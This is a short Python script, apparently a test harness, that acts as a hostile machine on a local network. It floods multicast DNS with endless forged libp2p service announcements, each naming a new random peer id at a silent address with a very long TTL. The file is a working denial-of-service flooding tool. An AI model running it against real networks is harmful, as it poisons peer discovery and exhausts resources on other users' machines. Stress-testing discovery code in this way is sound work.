"""A hostile machine on a LAN: names ever new peers by multicast DNS, at addresses that are silent.

    python mdns_flood.py ADDRESS PACKETS_PER_SECOND NAMES_PER_PACKET

ADDRESS: its own. Each name is a service of its own with a peer id of its own. Until killed.
"""

from __future__ import annotations

import random
import socket
import sys
import time

from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from zeroconf import DNSOutgoing, DNSPointer, DNSText  # type: ignore[attr-defined]

SERVICE = "_p2p._udp.local."
RESPONSE, PTR, TXT, IN = 0x8400, 12, 16, 1
TTL = 1_000_000


def packets(rng: random.Random, names: int) -> list[bytes]:
    out = DNSOutgoing(RESPONSE)
    for _ in range(names):
        name = f"{rng.randbytes(16).hex()}.{SERVICE}"
        peer = ID.from_pubkey(create_new_key_pair(rng.randbytes(32)).public_key)
        entry = f"dnsaddr=/ip4/10.78.0.{rng.randrange(100, 250)}/tcp/4001/p2p/{peer}".encode()
        out.add_answer_at_time(DNSPointer(SERVICE, PTR, IN, TTL, name), 0)
        out.add_answer_at_time(DNSText(name, TXT, IN, TTL, bytes([len(entry)]) + entry), 0)
    made: list[bytes] = out.packets()
    return made


def main() -> None:
    own, rate, names = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    link.bind((own, 0))
    rng = random.Random(1)
    sent, began = 0, time.monotonic()
    while True:
        for packet in packets(rng, names):
            link.sendto(packet, ("224.0.0.251", 5353))
            sent += 1
        time.sleep(max(0.0, sent / rate - (time.monotonic() - began)))


if __name__ == "__main__":
    main()
